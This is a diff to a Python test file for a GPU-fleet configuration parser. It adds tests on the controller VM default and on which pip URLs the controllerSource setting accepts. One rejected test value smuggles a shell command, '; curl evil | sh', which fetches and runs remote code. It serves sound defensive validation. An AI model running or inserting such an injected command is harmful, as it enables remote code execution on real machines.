@@ -7,7 +7,14 @@ import json
 import pytest
 
 from gpufleet.catalog import known_types
-from infra.config import COMPACT_PLACEMENT_MAX_VMS, IAP_RANGE, KEYS, ConfigError, parse_spec
+from infra.config import (
+    COMPACT_PLACEMENT_MAX_VMS,
+    DEFAULT_CONTROLLER_SOURCE,
+    IAP_RANGE,
+    KEYS,
+    ConfigError,
+    parse_spec,
+)
 
 BASE = {"gcp:project": "gpufleet-test", "gcp:zone": "us-central1-a"}
 
@@ -182,6 +189,8 @@ WRONG_TYPES = {
     "serviceAccount": True,
     "checkpointBucket": 12345,
     "labels": ["team"],
+    "controller": "sometimes",
+    "controllerSource": 3,
     "gcp:project": 42,
     "gcp:zone": ["us-central1-a"],
 }
@@ -250,3 +259,49 @@ def test_a_date_in_a_stack_file_stays_the_text_it_was_written_as(tmp_path):
     path.write_text("config:\n  gcp:project: gpufleet-test\n  gcp:zone: us-central1-a\n  gpufleet:name: 2024-01-01\n")
     with pytest.raises(ConfigError, match=r"^config gpufleet:name = '2024-01-01' is not allowed: 1-40 lowercase"):
         read_stack_file(str(path))
+
+
+def test_the_controller_vm_is_on_by_default_and_installs_from_the_default_source():
+    s = spec()
+    assert s.controller is True and s.controller_source == DEFAULT_CONTROLLER_SOURCE
+    assert DEFAULT_CONTROLLER_SOURCE.startswith("git+https://")
+    off = spec(controller=False)
+    assert off.controller is False
+    assert spec(controller="false").controller is False  # as `pulumi config set` writes it
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "git+https://github.com/me/gpufleet.git",
+        "git+https://github.com/me/gpufleet.git@v0.1.0",
+        "git+https://gitlab.example.com:8443/team/gpufleet@main",
+        "https://example.com/dist/gpufleet-0.1.0-py3-none-any.whl",
+        "https://example.com/dist/gpufleet-0.1.0.tar.gz",
+    ],
+)
+def test_a_controller_source_is_any_pip_url_without_credentials(source):
+    assert spec(controllerSource=source).controller_source == source
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "git+https://me:ghp_secret@github.com/me/gpufleet.git",  # a token would sit in metadata
+        "https://token@example.com/gpufleet-0.1.0.whl",
+        "git+ssh://git@github.com/me/gpufleet.git",  # needs a key on the VM
+        "http://example.com/gpufleet-0.1.0.whl",  # not TLS
+        "gpufleet==0.1.0",  # an index name: whoever holds it there
+        "https://example.com/gpufleet",  # neither a git URL nor an archive
+        "git+https://github.com/me/gpufleet.git; curl evil | sh",
+    ],
+)
+def test_a_controller_source_with_credentials_or_not_a_pip_url_is_one_line(source):
+    m = error(controllerSource=source)
+    assert m.startswith("config gpufleet:controllerSource") and source in m
+    assert "without credentials" in m and "git+https://HOST/OWNER/REPO.git" in m
+
+
+def test_a_controller_source_without_a_controller_is_refused():
+    m = error(controller=False, controllerSource="git+https://github.com/me/gpufleet.git")
+    assert m.startswith("config gpufleet:controllerSource") and "only with gpufleet:controller true" in m
